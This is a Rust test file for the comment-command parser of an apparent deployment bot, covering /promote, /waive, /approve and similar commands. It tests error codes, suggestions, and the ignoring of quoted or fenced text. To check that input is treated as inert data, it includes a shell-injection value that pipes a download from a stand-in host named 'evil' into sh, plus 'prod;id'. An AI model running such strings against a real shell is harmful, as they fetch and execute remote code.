//! Comments, and what they must be read as.

use std::collections::BTreeMap;

use proptest::prelude::*;

use super::*;

/// The only command or mistake of a comment; none if it is not for us.
fn only(body: &str) -> Option<Result<Command, CommandError>> {
    match parse(body) {
        Parsed::NotForUs => None,
        Parsed::Commands(mut commands) => {
            assert_eq!(commands.len(), 1, "{body:?}: {commands:?}");
            commands.pop().map(|line| line.command)
        }
    }
}

fn promote(environment: &str) -> Promote {
    Promote {
        environment: environment.parse().unwrap(),
        target: Target::Head,
        reason: None,
        dry_run: false,
        parameters: BTreeMap::new(),
    }
}

fn parameters<const N: usize>(pairs: [(&str, &str); N]) -> BTreeMap<ParameterName, String> {
    pairs.into_iter().map(|(name, value)| (name.parse().unwrap(), value.to_owned())).collect()
}

fn number(number: i64) -> Which {
    Which::Number(PromotionNumber(number))
}

fn named(environment: &str) -> Which {
    Which::Environment(environment.parse().unwrap())
}

fn check(body: &str, expected: Command) {
    assert_eq!(only(body), Some(Ok(expected)), "{body:?}");
}

fn refused(body: &str, code: &str) -> CommandError {
    let Some(Err(error)) = only(body) else { panic!("{body:?}: {:?}", only(body)) };
    assert_eq!(error.code, code, "{body:?}: {error}");
    error
}

fn not_for_us(body: &str) {
    assert_eq!(parse(body), Parsed::NotForUs, "{body:?}");
}

#[test]
fn a_waiver_is_read_with_its_day_and_its_reason() {
    let waive = |finding: &str, only: Option<&str>| {
        Command::Waive(Waive {
            finding: finding.parse().unwrap(),
            until: "2026-12-31".parse().unwrap(),
            reason: "not reached".to_owned(),
            only: only.map(str::to_owned),
        })
    };
    check("/waive CVE-2026-1234 --until 2026-12-31 --reason \"not reached\"", waive("CVE-2026-1234", None));
    check(
        "/waive --reason=\"not reached\" --only pkg:npm/%40acme/x --until=2026-12-31 python.lang:x/y#1",
        waive("python.lang:x/y#1", Some("pkg:npm/%40acme/x")),
    );
    check("/unwaive B101", Command::Unwaive { finding: "B101".parse().unwrap() });
    check("/scan", Command::Scan);
    for (body, code) in [
        ("/waive --until 2026-12-31 --reason x", "missing_finding"),
        ("/waive X --reason x", "missing_date"),
        ("/waive X --until 2026-12-31", "missing_reason"),
        ("/waive X --until tomorrow --reason x", "invalid_date"),
        ("/waive X --until 2026-02-30 --reason x", "invalid_date"),
        ("/waive X --until 20261231 --reason x", "invalid_date"),
        ("/waive X --until 2026-12-31T00:00:00Z --reason x", "invalid_date"),
        ("/waive X --until 2026-12-31 --reason x --only \"a b\"", "invalid_place"),
        ("/waive \"a b\" --until 2026-12-31 --reason x", "invalid_finding"),
        ("/waive X Y --until 2026-12-31 --reason x", "unexpected_argument"),
        ("/waive X --untill 2026-12-31 --reason x", "unknown_option"),
        ("/unwaive", "missing_finding"),
        ("/scan all", "unexpected_argument"),
    ] {
        refused(body, code);
    }
}

#[test]
fn a_promotion_is_read_with_all_that_was_said() {
    check("/promote production", Command::Promote(promote("production")));
    check("\r\n  /promote   eu/prod-1 \r\n\r\nthanks!", Command::Promote(promote("eu/prod-1")));
    let full = Promote {
        target: Target::Sha("3F2a9c1".parse().unwrap()),
        reason: Some("the \"big\" fix".to_owned()),
        dry_run: true,
        parameters: parameters([("region", "eu west"), ("canary", "a=b")]),
        ..promote("production")
    };
    for line in [
        r#"/promote production --sha 3F2a9c1 --reason "the \"big\" fix" --dry-run region="eu west" canary=a=b"#,
        r#"/promote --dry-run --sha=3F2a9c1 "region=eu west" canary=a=b production --reason="the \"big\" fix""#,
        "/promote production —sha 3F2a9c1 —reason “the \"big\" fix” —dry-run region=“eu west” canary=a=b",
    ] {
        check(line, Command::Promote(full.clone()));
    }
    let tagged = Promote { target: Target::Tag("v1.4.2".parse().unwrap()), ..promote("production") };
    check("/promote production --tag v1.4.2", Command::Promote(tagged));
}

#[test]
fn the_other_commands_are_read() {
    check("/approve", Command::Approve { which: None });
    check("/approve p42", Command::Approve { which: Some(number(42)) });
    check("/approve production", Command::Approve { which: Some(named("production")) });
    let reason = "not on a Friday".to_owned();
    check(
        "/reject p7 --reason \"not on a Friday\"",
        Command::Reject { which: Some(number(7)), reason: reason.clone() },
    );
    check("/reject --reason “ not on a Friday ”", Command::Reject { which: None, reason });
    check("/cancel p1", Command::Cancel { which: Some(number(1)) });
    check("/status", Command::Status { environment: None });
    check("/status staging", Command::Status { environment: Some("staging".parse().unwrap()) });
    check("/why", Command::Why { which: None });
    check("/why p3", Command::Why { which: Some(PromotionNumber(3)) });
    check("/help", Command::Help { command: None });
    for line in ["/help reject", "/help /reject"] {
        check(line, Command::Help { command: Some(CommandName::Reject) });
    }
}

#[test]
fn mistakes_are_answered_with_what_to_write() {
    for (line, code) in [
        ("/promote", "missing_environment"),
        ("/promote --dry-run", "missing_environment"),
        ("/promote prod;id", "invalid_environment"),
        ("/promote \"\"", "invalid_environment"),
        ("/promote production now", "unexpected_argument"),
        ("/promote production --reason fix the bug", "unexpected_argument"),
        ("/promote production --sha", "missing_value"),
        ("/promote production --sha --dry-run", "missing_value"),
        ("/promote production --reason \" \"", "missing_value"),
        ("/promote production --sha=", "missing_value"),
        ("/promote production --dry-run=yes", "unexpected_value"),
        ("/promote production --sha 3f2a9c1 --sha 3f2a9c1", "doubled_option"),
        ("/promote production --dry-run --dry-run", "doubled_option"),
        ("/promote production --sha 3f2a9c1 --tag v1", "conflicting_options"),
        ("/promote production --sha 3f2a9c", "invalid_sha"),
        ("/promote production --sha HEAD~1xyz", "invalid_sha"),
        ("/promote production --tag v1..v2", "invalid_tag"),
        ("/promote production --tag=-x", "invalid_tag"),
        ("/promote production --force", "unknown_option"),
        ("/promote production -", "unknown_option"),
        ("/promote production --reason \"open", "unclosed_quote"),
        ("/promote production Region=eu", "invalid_parameter"),
        ("/promote production 1a=eu", "invalid_parameter"),
        ("/promote production =eu", "invalid_parameter"),
        ("/promote production a=1 a=2", "doubled_parameter"),
        ("/promote production a=\u{202e}1", "hidden_character"),
        ("/promote production a=\u{0}", "hidden_character"),
        ("/approve p1 p2", "unexpected_argument"),
        ("/approve --force", "unknown_option"),
        ("/approve region=eu", "invalid_environment"),
        ("/reject p1", "missing_reason"),
        ("/reject p1 --reason", "missing_value"),
        ("/why production", "invalid_promotion"),
        ("/why p0", "invalid_promotion"),
        ("/help deploy", "unknown_command"),
    ] {
        let error = refused(line, code);
        assert!(error.message.len() > 20 && error.message.ends_with(['.', '?']), "{line}: {error}");
    }
    refused(&format!("/promote production a={}", "x".repeat(1_001)), "value_too_long");
    refused(&format!("/reject --reason \"{}\"", "ä".repeat(1_001)), "reason_too_long");
    refused(&format!("/promote {}", "x".repeat(8_000)), "line_too_long");
    refused(&format!("/why\n\n{}", "x".repeat(300_000)), "comment_too_long");
}

#[test]
fn suggestions_can_be_copied() {
    for (line, suggestion) in [
        ("/promte production --dry-run", "/promote production --dry-run"),
        ("/Promote production", "/promote production"),
        ("/promote: production", "/promote production"),
        ("/promote:production", "/promote production"),
        ("/aprove p1", "/approve p1"),
        ("/approved", "/approve"),
        ("/cancle", "/cancel"),
        ("/WHY", "/why"),
        ("/help!", "/help"),
        ("/pro\u{ad}mote", ""),
        ("/promote production --dryrun", "--dry-run"),
        ("/promote production -sha 3f2a9c1", "--sha"),
        ("/promote production --Reason x", "--reason"),
        ("/promote production --dry_run", "--dry-run"),
        ("/promote production --sha", "--sha SHA"),
        ("/reject p1", "/reject p1 --reason \"…\""),
        ("/help promot", "/help promote"),
    ] {
        let Some(Err(error)) = only(line) else { panic!("{line}") };
        assert_eq!(error.suggestion.unwrap_or_default(), suggestion, "{line}: {}", error.message);
    }
}

#[test]
fn other_bots_are_left_alone() {
    for line in [
        "",
        " \n\t\n",
        "hello",
        "/",
        "//",
        "/lgtm",
        "/deploy production",
        "/hold",
        "/retest",
        "/ok to test",
        "/who",
        "/merge",
        "/usr/bin/promote",
        "/status/health answers 500",
        "/status.json",
        "/remove label",
        "/help.md is gone",
        "promote production",
        "@countersign promote",
        "\u{200b}/why",
    ] {
        not_for_us(line);
    }
}

#[test]
fn several_commands_may_follow_each_other() {
    let body = "/approve p1\n/lgtm\n/promte staging\r\n /status\nthanks\n/approve p2";
    let Parsed::Commands(commands) = parse(body) else { panic!() };
    assert_eq!(commands.len(), 3);
    assert_eq!(commands[0].command, Ok(Command::Approve { which: Some(number(1)) }));
    assert_eq!(commands[1].command.as_ref().unwrap_err().code, "unknown_command");
    assert_eq!(commands[2].command, Ok(Command::Status { environment: None }));

    let Parsed::Commands(ten) = parse(&"/status\n".repeat(10)) else { panic!() };
    assert_eq!(ten.len(), 10);
    refused(&"/status\n".repeat(11), "too_many_commands");
}

#[test]
fn each_command_has_the_line_it_stands_on() {
    let lines = |body: &str| match parse(body) {
        Parsed::Commands(lines) => lines.into_iter().map(|line| line.text).collect::<Vec<_>>(),
        Parsed::NotForUs => panic!("{body:?}"),
    };
    let several = lines("\n  /status staging \r\n/lgtm\n/promte x\n/reject p2 --reason \"no\"\nBye");
    assert_eq!(several, ["/status staging", "/promte x", "/reject p2 --reason \"no\""]);
    assert_eq!(lines(&"/status\n".repeat(11)), ["/status"]);
    assert_eq!(lines(&format!("/why {}", "x".repeat(300_000))), [format!("/why {}", "x".repeat(295))]);
}

#[test]
fn pitfall_14_a_command_anywhere_in_the_text() {
    for body in [
        "Please write\n/promote production",
        "> /promote production",
        "> hello\n/promote production",
        "```\n/promote production\n```",
        "~~~sh\n/promote production\n~~~",
        "    /promote production",
        "\t/promote production",
        "`/promote production`",
        "<!-- /promote production -->",
        "<!--\n/promote production\n-->",
        "<details>\n/promote production\n</details>",
        "- /promote production",
        "1. /promote production",
        "# /promote production",
        "[x]:\n/promote production",
        "--\nSent from my phone\n/promote production",
    ] {
        not_for_us(body);
    }
    for hidden in ["<!--\n/approve\n-->", "`\n/approve\n`", "<a title='\n/approve\n'>"] {
        let Parsed::Commands(commands) = parse(&format!("/why {hidden}")) else { panic!() };
        assert_eq!(commands.len(), 1, "{hidden:?}: {commands:?}");
    }
}

#[test]
fn pitfall_15_what_the_bot_says_about_commands_is_none() {
    for row in help() {
        not_for_us(&format!("Write `{}` to go on.", row.usage()));
        not_for_us(&format!("`{}`: {}", row.usage(), row.summary));
        not_for_us(&format!("| `{}` | {} |", row.usage(), row.summary));
    }
}

#[test]
fn pitfall_22_messages_quote_no_more_than_a_few_words() {
    let long = "x".repeat(5_000);
    for line in [
        format!("/promote production {long}"),
        format!("/promote production --{long}"),
        format!("/promote production --sha {long}"),
        format!("/promote {long};"),
        format!("/why {long}"),
        format!("/help {long}"),
        format!("/promote:{long}"),
    ] {
        let Some(Err(error)) = only(&line) else { panic!() };
        assert!(error.message.len() < 300, "{error}");
    }
}

#[test]
fn pitfall_27_a_target_is_a_commit_or_a_tag_and_never_guessed() {
    refused("/promote production --sha main", "invalid_sha");
    refused("/promote production main", "unexpected_argument");
    refused("/promote production --tag refs~1", "invalid_tag");
    refused("/promote production --branch main", "unknown_option");
    let prefix: ShaPrefix = "3F2A9C1".parse().unwrap();
    assert!(prefix.matches(&format!("3f2a9c1{}", "0".repeat(33)).parse().unwrap()));
    assert!(!prefix.matches(&"0".repeat(40).parse().unwrap()));
}

#[test]
fn pitfall_29_parameters_are_data_with_typed_names() {
    let hostile = r"$(curl evil|sh) `id` ${IFS} \ ' ; && <b>";
    let Some(Ok(Command::Promote(read))) = only(&format!("/promote staging \"note={hostile}\"")) else {
        panic!()
    };
    assert_eq!(read.parameters, parameters([("note", hostile)]));
    for name in ["$(id)", "a b", "A", "é", "a.b", "__proto__", &"a".repeat(65)] {
        refused(&format!("/promote staging \"{name}=1\""), "invalid_parameter");
    }
}

#[test]
fn a_comment_as_long_as_github_takes_is_read_quickly() {
    for piece in
        ["[", "`a", "``` ", "<!--", "<a b='", "*a_", "](", "![", "\n/x", "\n/why", "\n/a `", "&a;", "\\"]
    {
        let body = format!("/why {}", piece.repeat(65_000 / piece.len()));
        let started = std::time::Instant::now();
        assert_ne!(parse(&body), Parsed::NotForUs, "{piece:?}");
        assert!(started.elapsed().as_secs() < 5, "{piece:?} took {:?}", started.elapsed());
    }
}

fn any_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => "[ -~\u{a0}\u{202e}“”—é\t]{0,12}",
        3 => prop::sample::select(vec![
            "/promote ", "/approve p1", "/why", "/help ", "staging", "--reason ", "--sha=", "\"", "\n", "\r\n",
            "\r", "```", "~~~", "`", "> ", "<!--", "-->", "    ", "a=b ", "\\", "[", "](", "<b c='", "'>",
        ]).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn no_text_makes_it_panic_or_answer_without_end(text in any_text()) {
        if let Parsed::Commands(commands) = parse(&text) {
            prop_assert!((1..=10).contains(&commands.len()));
        }
        if let Parsed::Commands(commands) = parse(&format!("/promote {text}")) {
            prop_assert!((1..=10).contains(&commands.len()));
        }
    }

    #[test]
    fn what_is_fenced_quoted_or_hidden_commands_nothing(text in any_text(), lead in "\n{0,2} {0,3}") {
        let marked = |mark: &str| text.replace(['\n', '\r'], &format!("\n{mark}"));
        let quoted = format!("{lead}> {}\n/approve", marked("> "));
        prop_assert_eq!(parse(&quoted), Parsed::NotForUs);
        let indented = format!("    x\n    {}\n/approve", marked("    "));
        prop_assert_eq!(parse(&indented), Parsed::NotForUs);
        for (open, close) in [("```\n", "\n```"), ("~~~\n", "\n~~~"), ("<!--\n", "\n-->")] {
            prop_assert_eq!(parse(&format!("{lead}{open}{text}{close}")), Parsed::NotForUs);
        }
    }

    #[test]
    fn what_a_first_command_hides_commands_nothing(text in "[a-z /\n]{0,40}") {
        for (open, close) in [("```\n", "\n```"), ("~~~\n", "\n~~~"), ("<!--\n", "\n-->")] {
            let Parsed::Commands(commands) = parse(&format!("/status\n{open}{text}\n/approve p1{close}")) else {
                return Err(TestCaseError::fail("not read"));
            };
            let [only] = commands.as_slice() else { return Err(TestCaseError::fail(format!("{commands:?}"))) };
            prop_assert_eq!(&only.command, &Ok(Command::Status { environment: None }));
        }
    }
}
